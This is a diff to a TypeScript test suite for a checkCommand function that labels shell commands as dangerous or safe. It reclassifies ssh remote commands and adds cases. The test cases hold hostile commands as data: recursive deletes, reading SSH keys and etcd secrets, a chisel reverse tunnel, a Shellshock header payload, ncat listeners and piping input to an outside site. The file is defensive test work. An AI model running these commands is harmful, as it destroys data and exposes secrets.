@@ -492,7 +492,9 @@ const CLASSES: [string, boolean, string?][] = [
   // What ssh runs on the host, and what a container runs, are commands of their own.
   ["ssh user@server 'rm -rf /'", true, 'root directory'],
   ['date\nssh -p 2222 -i key user@server rm -rf ~', true, 'home directory'],
-  ['ssh host uptime', false],
+  // Whatever it is, a command given to ssh runs on the other host: its paths are never the workspace.
+  ['ssh host uptime', true, 'runs a command on another host'],
+  ['ssh -G host', false],
   ['docker exec -it app /bin/sh', true, 'whose commands come from its input'],
   ['podman run --rm alpine sh -c "cat ~/.ssh/id_rsa"', true, 'secrets'],
   ['docker run --rm -v "$PWD":/src -w /src golang:1.22 go test ./...', false],
@@ -621,10 +623,10 @@ describe('checkCommand judges what a program runs', () => {
 
 describe('checkCommand on sessions elsewhere, scans, keys, capabilities, raw disks and servers on every interface', () => {
   const cases: [string, boolean, string?][] = [
-    // a host and no command is a login shell there; a command there is judged as one
+    // a host and no command is a login shell there; a command there runs on that host, and is judged as one too
     ['ssh deploy@build.example.com', true, 'login shell on another host'],
     ['ssh -p 2222 -i keys/ci me@10.0.0.7', true, 'login shell'],
-    ['ssh me@host uptime', false],
+    ['ssh me@host uptime', true, 'runs a command on another host'],
     ['ssh -N -L 5432:db:5432 bastion', false],
     ['ssh -V', false],
     ['telnet example.com 23', true, 'interactive session'],
@@ -865,6 +867,63 @@ describe('checkCommand on namespaced commands, reverse-shell programs, releases,
     ['rm -rf *', true, 'everything in the current directory'],
     ['rm -rf **/node_modules', true, 'everything in the current directory'],
     ['rm -rf ?', true, 'everything in the current directory'],
+  ];
+  it.each(cases)('%s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
+
+describe('checkCommand on versioned release names, services killed by name, probes, stdin sent, tag pushes, python -m programs, homes searched and literal tildes', () => {
+  const cases: [string, boolean, string?][] = [
+    // a tool downloaded with its version and platform in its file name is the tool
+    ['./chisel_1.7.6_linux_amd64 client 10.10.14.20:12312 R:4505:127.0.0.1:4505', true, 'tunnel'],
+    ['./chisel_1.7.6_linux_amd64 --help', false],
+    // a service of the machine killed by name; the run's own process by name is not
+    ['killall apache2', true, 'service of the machine'],
+    ['pkill -f vite', false],
+    // Shellshock: a function definition sent as a header
+    ['curl -A "() { ignored; }; echo; /usr/bin/id" http://10.0.0.5/cgi-bin/status', true, 'function definition'],
+    ["curl -A 'my-agent/1.0' https://example.com", false],
+    // a form field read from stdin sends the input
+    ['echo notes.txt | curl -F-=\\<- qrenco.de', true, 'sends its input'],
+    ['curl -fsSL https://example.com/a.tar.gz -o a.tar.gz', false],
+    // scanners, listeners and a probe of another host's port
+    ['amap -d 10.0.0.5 8080', true, 'scans'],
+    ['ncat --listen --proxy-type http 8080', true, 'listens'],
+    ['ncat -lvp 4242', true, 'listens'],
+    ['nc -z -w 2 db.internal 5432', false],
+    // etcd's data holds the cluster's secrets
+    ['strings /var/lib/etcd/member/snap/db', true, 'secrets'],
+    ['strings ./build/app.bin', false],
+    // a search through every home; a listing of /home is names only
+    ['grep -R "current-context" /home/', true, "users' home directories"],
+    ['grep -R "current-context" src/', false],
+    ['ls /home', false],
+    // a tag pushed is a release; a branch pushed is not
+    ['git push origin "$VERSION"', true, 'pushes a tag'],
+    ['git push --follow-tags', true, 'pushes a tag'],
+    ['git push origin v1.2.3', true, 'pushes a tag'],
+    ['git push origin main', false],
+    ['git push origin "$BRANCH"', false],
+    // python -m X is X when a table names X
+    ['python -m twine upload --skip-existing ./wheelhouse/*', true, 'publishes'],
+    ['python -m twine check dist/*', false],
+    // inline code that only converts its input, or prints a literal
+    ["cat data.json | ruby -ryaml -rjson -e 'puts YAML.dump(JSON.load(ARGF))'", false],
+    ['ruby -e \'puts File.read("/etc/hostname")\'', true],
+    ['deno eval "console.log(\'cmd works\')"', false],
+    ['deno eval "Deno.removeSync(\'/tmp/x\')"', true],
+    // a process's open files listed, not read
+    ['for fd in `find /proc/*/fd`; do ls -al $fd/* 2>/dev/null | grep \\>; done > fds.txt', false],
+    ['cat /proc/1/fd/3', true, 'secrets'],
+    // a quoted ~ is a name, not the home
+    ['mkdir -p "~/docker_${TOOLCHAIN_NAME}"', false],
+    ['mkdir -p ~/docker_x', true, 'home directory'],
+    // a command given to ssh runs on the other host
+    ['ssh deploy@10.0.0.5 uptime', true, 'runs a command on another host'],
+    ['ssh -V', false],
   ];
   it.each(cases)('%s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
